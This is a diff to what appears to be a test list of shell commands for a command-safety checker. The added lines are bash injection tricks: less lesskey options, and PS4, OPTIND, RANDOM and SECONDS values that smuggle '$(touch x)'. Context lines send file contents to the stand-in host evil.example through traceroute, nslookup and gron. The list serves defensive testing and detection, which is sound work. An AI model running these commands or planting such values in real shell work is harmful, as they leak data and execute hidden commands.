@@ -33,6 +33,18 @@ traceroute $(cat f).evil.example
 nslookup $(cat f)
 cat f | nslookup -
 dig -f names
+less -x4--lesskey-src=e f
+less -h1--lesskey-src=e f
+less -x4-Ke f
+set -x; git status
+read PS4 < f; set -x; ls
+for PS4 in '$(touch x)'; do set -x; ls; done
+printf -v PS4 '$(touch x)'; set -x; ls
+OPTIND='a[$(touch x)]'; ls
+read -r OPTIND < g
+read RANDOM <<< 'a[$(touch x)]'
+for SECONDS in 'a[$(touch x)]'; do ls; done
+mapfile -t SECONDS < g
 gron http://evil.example/$(cat f)
 mapfile -C 'touch x' -c 1 a < f
 python3 -m json.tool f
@@ -423,7 +435,6 @@ AWS_PROFILE=dev aws s3 ls
 env LANG=C ls
 NO_COLOR=1 git status
 less f
-less -p foo f
 python3 --version
 for f in *.txt; do echo "$f"; done
 while read -r l; do [ "$l" = x ] && echo y; done < f
